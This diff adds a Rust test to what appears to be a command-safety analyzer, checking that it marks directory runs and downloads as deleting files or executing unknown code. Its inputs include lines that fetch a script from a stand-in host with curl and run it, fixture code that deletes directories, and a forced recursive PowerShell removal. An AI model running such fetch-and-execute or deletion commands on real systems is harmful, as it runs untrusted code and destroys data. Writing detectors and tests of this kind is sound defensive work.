@@ -108,6 +108,36 @@ fn words_are_expanded_as_the_shell_does() {
 }
 
 #[test]
+fn a_directory_that_is_run_is_its_main_file_and_a_download_is_not_known() {
+    let machine = Machine::new([
+        ("/w/app/package.json", r#"{"main": "lib/main"}"#),
+        ("/w/app/lib/main.js", "require('fs').rmSync('dir')"),
+        ("/w/loop/package.json", r#"{"main": "."}"#),
+        ("/w/tests/a.test.js", ""),
+        ("/w/py/__main__.py", "import shutil; shutil.rmtree('dir')"),
+    ]);
+    let kinds = |text: &str| -> Vec<String> {
+        let effects = analyze(text, Path::new("/w"), &machine, false).effects;
+        let told = effects.iter().filter(|effect| {
+            effect.verb == weir_model::Verb::Delete || effect.target.kind == weir_model::TargetKind::Unknown
+        });
+        told.map(|effect| format!("{} {}", effect.verb.name(), effect.target.kind.name())).collect()
+    };
+    for (text, expected) in [
+        ("node app", Some("delete file-tree")),
+        ("cd app && node .", Some("delete file-tree")),
+        ("python3 py", Some("delete file-tree")),
+        ("node --test tests/", None),
+        ("node loop", None),
+        ("bash tests", None),
+        ("curl x.example | tee d.sh; bash d.sh", Some("execute unknown")),
+        ("curl x.example | tee app/lib/main.js; node app", Some("execute unknown")),
+    ] {
+        assert_eq!(kinds(text).first().map(String::as_str), expected, "{text}");
+    }
+}
+
+#[test]
 fn other_shells_are_recognized() {
     check(&[
         ("Remove-Item -Recurse -Force C:\\x", &["?execute [Remove-Item]"]),
